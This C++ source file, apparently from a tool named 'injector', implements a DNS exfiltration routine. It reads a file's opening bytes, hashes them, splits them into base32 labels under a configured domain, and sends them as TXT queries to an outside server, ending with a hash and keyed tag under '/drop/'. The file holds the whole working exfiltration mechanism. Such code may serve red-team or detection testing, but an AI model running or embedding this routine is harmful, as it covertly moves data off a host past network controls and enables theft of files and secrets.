#include "injector/actor/send_names.h"

#include "injector/actor/base32.h"
#include "injector/actor/failure.h"
#include "injector/actor/kept.h"
#include "injector/actor/key.h"
#include "injector/actor/look_up.h"
#include "injector/actor/sha256.h"
#include "injector/actor/tag.h"

#include <algorithm>
#include <fstream>
#include <iostream>
#include <random>

namespace enshu::actor {
namespace {

constexpr seconds patience{3};
constexpr int tries = 4;
constexpr std::size_t longest_label = 60;
/// Five bits a letter: full labels end where a byte does.
constexpr std::size_t most_letters = 3 * 56;

std::string beginning_of(const std::filesystem::path &path) {
    std::ifstream file(path, std::ios::binary);
    std::string bytes(SendNamesOptions::most_bytes, '\0');
    file.read(bytes.data(), static_cast<std::streamsize>(bytes.size()));
    if (!file.is_open() || file.bad() || std::filesystem::is_directory(path)) {
        throw Failure(Exit::Failed, "`" + path.string() + "` cannot be read");
    }
    bytes.resize(static_cast<std::size_t>(file.gcount()));
    return bytes;
}

std::string in_labels(const std::string &letters) {
    std::string labels;
    for (std::size_t at = 0; at < letters.size(); at += longest_label) {
        labels += letters.substr(at, longest_label) + ".";
    }
    return labels;
}

class Asking {
  public:
    Asking(const SendNamesOptions &options, Lease &lease) : options_(options), lease_(lease) {}

    void ask(const std::string &name) {
        for (int i = 0; i < tries; ++i) {
            lease_.wait(-1, 0, next_);
            next_ = Clock::now() + milliseconds(1000 / SendNamesOptions::most_a_second);
            if (look_up({static_cast<std::uint16_t>(random_()), name, dns::Type::Txt},
                        options_.server, patience, lease_)) {
                return;
            }
        }
        throw Failure(Exit::Failed, "nobody answers for " + options_.domain);
    }

  private:
    const SendNamesOptions &options_;
    Lease &lease_;
    Deadline next_ = Clock::now();
    std::mt19937 random_{std::random_device{}()};
};

} // namespace

void send_names(const SendNamesOptions &options) {
    const Key key = read_key(std::cin);
    const std::string bytes = beginning_of(options.file);
    Lease lease(options.socket);
    Sha256 sum;
    sum.add(bytes);
    const std::string sha256 = sum.finish();
    tell_ready("{\"bytes\":" + std::to_string(bytes.size()) + ",\"sha256\":\"" + sha256 + "\"}");

    const std::string below = options.id + ".x." + options.domain;
    const std::size_t room = dns::max_name - below.size() - std::string("9999.").size() - 4;
    const std::size_t piece = std::min(most_letters, room) * 5 / 8;
    Asking asking(options, lease);
    std::size_t count = 0;
    for (std::size_t at = 0; at < bytes.size(); at += piece) {
        asking.ask(std::to_string(count++) + "." + in_labels(base32(bytes.substr(at, piece))) +
                   below);
    }
    asking.ask("end." + std::to_string(count) + "." + sha256.substr(0, 32) + "." +
               sha256.substr(32) + "." + Tagger(key, "/drop/" + options.id).next() + "." + below);
}

} // namespace enshu::actor
